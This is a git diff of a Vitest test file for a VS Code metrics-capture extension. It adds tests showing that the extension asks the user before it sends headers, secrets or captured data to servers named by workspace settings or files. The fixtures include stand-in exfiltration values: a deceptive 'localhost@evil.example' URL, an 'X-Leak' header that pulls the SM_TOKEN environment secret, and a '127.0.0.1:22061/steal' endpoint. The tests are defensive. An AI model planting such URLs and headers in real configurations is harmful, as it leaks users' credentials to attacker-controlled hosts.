@@ -1,7 +1,7 @@
 import { mkdtemp, rm, writeFile } from "node:fs/promises";
 import os from "node:os";
 import path from "node:path";
-import { afterEach, beforeEach, expect, it, vi } from "vitest";
+import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
 import type { ChosenEndpoint } from "../../../src/extension/capture/endpoint-items.js";
 
 const { settings, prompts, vscode } = vi.hoisted(() => {
@@ -9,14 +9,24 @@ const { settings, prompts, vscode } = vi.hoisted(() => {
   const prompts: { readonly title?: string; readonly password?: boolean }[] = [];
   const vscode = {
     typed: undefined as string | undefined,
+    /** Where the settings are. */
+    scope: "globalValue",
+    /** Pressed in a question; what was asked. */
+    pressed: undefined as string | undefined,
+    asked: [] as string[],
     workspace: {
       workspaceFolders: undefined,
       getConfiguration: () => ({
         get: (key: string, byDefault: unknown) => settings.get(key) ?? byDefault,
+        inspect: (key: string) => ({ [vscode.scope]: settings.get(key) }),
         update: (key: string, value: unknown) => Promise.resolve(void settings.set(key, value)),
       }),
     },
     window: {
+      showWarningMessage: (message: string, { detail }: { readonly detail: string }) => {
+        vscode.asked.push(`${message}\n${detail}`);
+        return Promise.resolve(vscode.pressed);
+      },
       showInputBox: (options: { readonly title?: string; readonly password?: boolean }) => {
         prompts.push(options);
         return Promise.resolve(vscode.typed);
@@ -32,7 +42,15 @@ const { settings, prompts, vscode } = vi.hoisted(() => {
 vi.mock("vscode", () => vscode);
 const { captureOptions, withAccess } = await import("../../../src/extension/capture/request.js");
 const { EndpointHeaders } = await import("../../../src/extension/headers.js");
+const { Origins } = await import("../../../src/extension/origins.js");
 const { saveEndpoints } = await import("../../../src/extension/settings/endpoints.js");
+
+const kept = new Map<string, unknown>();
+const origins = new Origins({
+  keys: () => [...kept.keys()],
+  get: (key: string) => kept.get(key),
+  update: (key: string, value: unknown) => Promise.resolve(void kept.set(key, value)),
+} as ConstructorParameters<typeof Origins>[0]);
 
 let stored: Map<string, string>;
 let headers: InstanceType<typeof EndpointHeaders>;
@@ -41,13 +59,20 @@ beforeEach(async () => {
   settings.clear();
   prompts.splice(0);
   vscode.typed = undefined;
+  vscode.scope = "globalValue";
+  vscode.pressed = undefined;
+  vscode.asked.splice(0);
+  kept.clear();
   stored = new Map();
-  headers = new EndpointHeaders({
-    get: (key) => Promise.resolve(stored.get(key)),
-    store: (key, value) => Promise.resolve(void stored.set(key, value)),
-    delete: (key) => Promise.resolve(void stored.delete(key)),
-    onDidChange: () => ({ dispose: () => undefined }),
-  });
+  headers = new EndpointHeaders(
+    {
+      get: (key) => Promise.resolve(stored.get(key)),
+      store: (key, value) => Promise.resolve(void stored.set(key, value)),
+      delete: (key) => Promise.resolve(void stored.delete(key)),
+      onDidChange: () => ({ dispose: () => undefined }),
+    },
+    origins,
+  );
   folder = await mkdtemp(path.join(os.tmpdir(), "server-metrics-access-"));
 });
 afterEach(async () => {
@@ -131,10 +156,10 @@ it("certificates are read from the files of the endpoint and of the setting for 
 it("a token typed into a URL is kept in the secret storage and sent, and two of them stay two endpoints", async () => {
   const first = await headers.takeCredentials("a:1/metrics?token=one&model=m");
   expect(first).toBe("http://a:1/metrics?token=REDACTED&model=m");
-  await saveEndpoints([{ url: first, enabled: true }]);
+  await saveEndpoints([{ url: first, enabled: true }], origins);
   const second = await headers.takeCredentials("a:1/metrics?token=two&model=m");
   expect(second).toBe(`${first}#2`);
-  await saveEndpoints([{ url: second, enabled: true }]);
+  await saveEndpoints([{ url: second, enabled: true }], origins);
   expect(JSON.stringify([...settings])).not.toMatch(/one|two/);
   const urls = (await reach(first, second)).map(({ url }) => url);
   expect(urls).toEqual(["http://a:1/metrics?token=one&model=m", "http://a:1/metrics?token=two&model=m#2"]);
@@ -152,6 +177,93 @@ it("which parameters are secret is a setting", async () => {
 it("saving another endpoint leaves headers and certificates of those there alone", async () => {
   const there = { url: "a:1", headers: { A: "${env:B}" }, ca: "ca.pem" };
   configure(there);
-  await saveEndpoints([{ url: "b:1", enabled: true }]);
+  await saveEndpoints([{ url: "b:1", enabled: true }], origins);
   expect(settings.get("serverMetrics.endpoints")).toEqual([there, { url: "b:1" }]);
+});
+
+describe("what the settings of a workspace name", () => {
+  beforeEach(() => {
+    vscode.scope = "workspaceValue";
+    vi.stubEnv("SM_TOKEN", "s3cret");
+  });
+  const leak = { "X-Leak": "${env:SM_TOKEN}" };
+
+  it("is asked for once, by its parsed origin and with what is sent, and nothing is read before", async () => {
+    configure({ url: "http://localhost:8000@evil.example:9/ok", headers: leak });
+    settings.set("serverMetrics.remoteWrite", "http://sink:9090");
+    const request = {
+      endpoints: [{ url: "http://localhost:8000@evil.example:9/ok", origin: "settings" } as const],
+      warmup: { kind: "none" } as const,
+      label: "",
+    };
+    const start = (mayAsk?: boolean) => captureOptions(request, headers, path.join(folder, "journal"), mayAsk);
+    // As the window opens: no question, no value.
+    await expect(start(false)).rejects.toThrow(/you have not approved/);
+    expect(vscode.asked).toEqual([]);
+    await expect(start()).rejects.toThrow(/^Nothing was sent/);
+    expect(vscode.asked).toEqual([
+      expect.stringContaining(
+        "http://evil.example:9, which gets the user name “localhost”, header X-Leak with your environment's SM_TOKEN\n" +
+          "http://sink:9090, which gets all that a capture reads\n",
+      ),
+    ]);
+    vscode.pressed = "Allow";
+    const { endpoints, remoteWrite } = await start();
+    expect(endpoints[0]?.headers).toEqual({ "X-Leak": "s3cret" });
+    expect(remoteWrite?.store.url).toBe("http://sink:9090");
+    await start(false);
+    expect(vscode.asked).toHaveLength(2);
+    expect(JSON.stringify([...kept])).not.toContain("s3cret");
+    // Taken back, it is asked for again.
+    expect(await origins.forget()).toBe(2);
+    await expect(start(false)).rejects.toThrow(/you have not approved/);
+  });
+
+  it.each([
+    ["another server", { url: "b:1" }],
+    ["another header", { url: "a:1", headers: { Cookie: "x" } }],
+    ["a variable", { url: "a:1", headers: { A: "${env:SM_TOKEN}" } }],
+    ["a certificate", { url: "a:1", cert: "c.pem", key: "k.pem" }],
+  ])("is asked for again with %s", async (_, changed) => {
+    vscode.pressed = "Allow";
+    configure({ url: "a:1", headers: { A: "literal" } });
+    await reach("a:1");
+    await reach("a:1");
+    expect(vscode.asked).toHaveLength(1);
+    vscode.pressed = undefined;
+    configure(changed);
+    await expect(reach(changed.url)).rejects.toThrow(/you have not approved/);
+  });
+
+  it("goes along with a server that the user types only when the user agrees", async () => {
+    configure({ url: "a:1", headers: leak });
+    const typed = (url: string) => withAccess([{ url, origin: "typed" }], headers);
+    await expect(typed("a:1")).rejects.toThrow(/X-Leak/);
+    expect(await typed("b:1")).toMatchObject([{ url: "b:1" }]);
+    expect(vscode.asked).toHaveLength(1);
+  });
+
+  it("is not asked for where the user has saved it", async () => {
+    await saveEndpoints([{ url: "a:1", enabled: true }], origins);
+    expect(await reach("a:1")).toMatchObject([{ url: "a:1" }]);
+    expect(vscode.asked).toEqual([]);
+  });
+});
+
+describe("what a file names", () => {
+  const open = (url: string) => withAccess([{ url, origin: "file" }], headers);
+
+  it("is asked for once", async () => {
+    await expect(open("http://127.0.0.1:22061/steal")).rejects.toThrow(/the file names a server .*127\.0\.0\.1:22061/);
+    vscode.pressed = "Allow";
+    await open("http://127.0.0.1:22061/steal");
+    await open("http://127.0.0.1:22061/other");
+    expect(vscode.asked).toHaveLength(2);
+  });
+
+  it("is not asked for where the user's own settings name it", async () => {
+    settings.set("serverMetrics.stores", [{ url: "http://store:9090" }]);
+    expect(await open("http://store:9090")).toHaveLength(1);
+    expect(vscode.asked).toEqual([]);
+  });
 });
